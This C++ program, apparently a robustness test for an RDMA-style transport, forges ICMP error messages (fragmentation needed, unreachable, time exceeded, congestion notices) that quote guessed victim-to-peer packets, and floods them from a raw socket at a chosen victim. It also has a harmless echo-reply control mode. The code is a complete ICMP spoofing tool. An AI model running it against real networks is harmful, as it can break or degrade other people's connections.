// attack_icmp - forges ICMP about a transfer that runs, at the given rate, from another host:
//   attack_icmp VICTIM PEER KIND SEED      until standard input ends; then prints the number of messages
// VICTIM sends to PEER. KIND: "forged" takes turns with fragmentation needed (MTUs from 68 up), port, host and network
// unreachable, source quench as a switch's drop notification and time exceeded, quoting packets of UDP port 4791;
// "harmless" sends as many messages of the same sizes, unsolicited echo replies: the other half of a pair.
#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/ip_icmp.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <array>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <thread>
#include <vector>

#include "base/random.h"
#include "wire/edn.h"

namespace {

using namespace brdma;  // a program, no header
constexpr std::size_t kIpSize = 20, kUdpSize = 8;

std::uint16_t checksum(ConstBytes bytes) {
  std::uint32_t sum = 0;
  for (std::size_t i = 0; i + 1 < bytes.size(); i += 2) sum += load_be16(bytes.data() + i);
  sum = (sum >> 16) + (sum & 0xFFFF);
  return static_cast<std::uint16_t>(~(sum + (sum >> 16)));
}

class Forger {
 public:
  Forger(const char* victim, const char* peer, std::uint64_t seed) : random_(seed, "icmp") {
    ::inet_pton(AF_INET, victim, &victim_);
    ::inet_pton(AF_INET, peer, &peer_);
  }
  [[nodiscard]] sockaddr_in victim() const {
    sockaddr_in to{};
    to.sin_family = AF_INET;
    to.sin_addr = victim_;
    return to;
  }
  [[nodiscard]] std::vector<std::byte> message(bool harmless) {
    const std::vector<std::byte> dropped = quote();
    const std::uint64_t kind = random_.below(8);
    if (kind >= 6 && !harmless) {
      std::vector<std::byte> quench(wire::kIcmpHeaderSize + wire::kQuoteMax);
      const auto count = static_cast<std::uint32_t>(1 + random_.below(64));
      quench.resize(
          wire::emit_icmp_edn(dropped, count, 1_us * static_cast<std::int64_t>(random_.below(60000)), quench.data()));
      return quench;
    }
    std::vector<std::byte> made(wire::kIcmpHeaderSize + dropped.size());
    std::copy(dropped.begin(), dropped.end(), made.begin() + wire::kIcmpHeaderSize);
    made[0] = std::byte{kind == 5 ? std::uint8_t{ICMP_TIME_EXCEEDED} : std::uint8_t{ICMP_DEST_UNREACH}};
    static constexpr std::uint8_t kCodes[] = {ICMP_FRAG_NEEDED,  ICMP_FRAG_NEEDED, ICMP_PORT_UNREACH,
                                              ICMP_HOST_UNREACH, ICMP_NET_UNREACH, 0};
    made[1] = std::byte{kCodes[std::min<std::uint64_t>(kind, 5)]};
    if (made[1] == std::byte{ICMP_FRAG_NEEDED})
      store_be16(&made[6], static_cast<std::uint16_t>(68 + random_.below(1400)));
    if (harmless) made[0] = made[1] = std::byte{ICMP_ECHOREPLY};
    store_be16(&made[2], checksum(made));
    return made;
  }

 private:
  // A quoted packet from the victim to its peer: IP, UDP, BTH and BXTH with guessed numbers.
  std::vector<std::byte> quote() {
    std::vector<std::byte> packet(kIpSize + kUdpSize + wire::kBthSize + wire::kBxthSize);
    store_be16(&packet[0], 0x4500);
    store_be16(&packet[2], 4200);
    store_be16(&packet[6], 0x4000);
    packet[8] = std::byte{64};
    packet[9] = std::byte{17};
    std::memcpy(&packet[12], &victim_, 4);
    std::memcpy(&packet[16], &peer_, 4);
    store_be16(&packet[20], static_cast<std::uint16_t>(random_.below(4) == 0 ? 4791 : 49152 + random_.below(16384)));
    store_be16(&packet[22], 4791);
    store_be16(&packet[24], 4180);
    wire::Bth bth;
    bth.opcode = random_.below(2) == 0 ? 0xC7 : 0x07;
    bth.dest_qpn = static_cast<std::uint32_t>(random_.next() & 0xFF'FFFF);
    bth.psn = Psn{static_cast<std::uint32_t>(random_.next() & 0xFF'FFFF)};
    wire::emit_bth(bth, &packet[kIpSize + kUdpSize]);
    wire::Bxth bxth;
    // The first slots, which programs have: their process gets to see it.
    bxth.source_qpn = static_cast<std::uint32_t>(random_.below(2048) << 13 | random_.below(8));
    bxth.token = random_.next();
    wire::emit_bxth(bxth, &packet[kIpSize + kUdpSize + wire::kBthSize]);
    return packet;
  }

  Random random_;
  in_addr victim_{}, peer_{};
};

bool over() {
  pollfd input{STDIN_FILENO, POLLIN, 0};
  return ::poll(&input, 1, 0) == 1;
}

}  // namespace

int main(int count, char** words) {
  if (count != 5) return 2;
  const bool harmless = std::strcmp(words[3], "harmless") == 0;
  Forger forger{words[1], words[2], std::strtoull(words[4], nullptr, 10)};
  const int fd = ::socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_ICMP);
  if (fd < 0) {
    std::perror("attack_icmp: socket");
    return 1;
  }
  // A thousand of them made beforehand, and sent repeatedly with a pause each: their receipt is measured.
  constexpr std::size_t kMade = 8192, kBurst = 100;
  constexpr auto kPause = std::chrono::milliseconds(1);
  std::vector<std::vector<std::byte>> made;
  for (std::size_t i = 0; i < kMade; ++i) made.push_back(forger.message(harmless));
  const sockaddr_in to = forger.victim();
  unsigned long long sent = 0;
  auto next = std::chrono::steady_clock::now();
  while (!over()) {
    for (std::size_t i = 0; i < kBurst; ++i) {
      const auto& message = made[(sent + i) % kMade];
      (void)::sendto(fd, message.data(), message.size(), 0, reinterpret_cast<const sockaddr*>(&to), sizeof to);
    }
    sent += kBurst;
    next += kPause;
    std::this_thread::sleep_until(next);
  }
  std::printf("{\"sent\":%llu}\n", sent);
  return 0;
}
